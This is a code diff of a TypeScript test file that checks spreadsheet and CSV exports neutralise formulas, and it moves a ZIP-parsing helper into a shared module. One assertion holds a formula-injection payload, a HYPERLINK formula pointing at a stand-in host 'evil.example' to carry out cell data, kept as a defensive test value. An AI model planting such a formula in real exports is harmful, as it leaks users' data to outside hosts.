@@ -5,13 +5,13 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import http from 'node:http';
 import { generateKeyPairSync } from 'node:crypto';
-import { inflateRawSync } from 'node:zlib';
 import type { AddressInfo } from 'node:net';
 import type { FastifyInstance } from 'fastify';
 import { buildApp } from '../src/server/app.js';
 import { toCsvText } from '../web/src/components/client-csv.js';
 import { createReadClient } from '../src/store/client.js';
 import { startTestStore, type TestStore } from './helpers/store.js';
+import { unzipEntries } from './helpers/workbook.js';
 import { NOW, RUN, decisionItem, putAll, writeHandWorkedDataset } from './helpers/fixtures.js';
 import { toAwareIso, toNaiveIso, utcDate } from '../src/core/time.js';
 
@@ -96,25 +96,12 @@ describe('CSV exports neutralise formulas (item 2)', () => {
   });
 });
 
-/** The entries of a ZIP written entry after entry (as the workbook writer writes it). */
-function unzip(buf: Buffer): Map<string, string> {
-  const out = new Map<string, string>();
-  for (let at = 0; buf.readUInt32LE(at) === 0x04034b50; ) {
-    const packed = buf.readUInt32LE(at + 18);
-    const nameLen = buf.readUInt16LE(at + 26);
-    const name = buf.subarray(at + 30, at + 30 + nameLen).toString('utf8');
-    out.set(name, inflateRawSync(buf.subarray(at + 30 + nameLen, at + 30 + nameLen + packed)).toString('utf8'));
-    at += 30 + nameLen + packed;
-  }
-  return out;
-}
-
 describe('workbook exports stay safe (item 2)', () => {
   it('formula-like text is an inline string, never a formula; U+FFFE/U+FFFF and lone surrogates do not break the XML', async () => {
     const app = await appWith();
     const res = await app.inject('/api/v1/markets?format=xlsx');
     expect(res.statusCode).toBe(200);
-    const sheet = unzip(res.rawPayload).get('xl/worksheets/sheet1.xml') ?? '';
+    const sheet = unzipEntries(res.rawPayload).get('xl/worksheets/sheet1.xml') ?? '';
     expect(sheet).not.toContain('<f>');
     expect(sheet).toContain('<t xml:space="preserve">=HYPERLINK(&quot;http://evil.example/x?&quot;&amp;A1,&quot;click&quot;)</t>');
     // XML 1.0's Char production: none of these may appear, escaped or not.
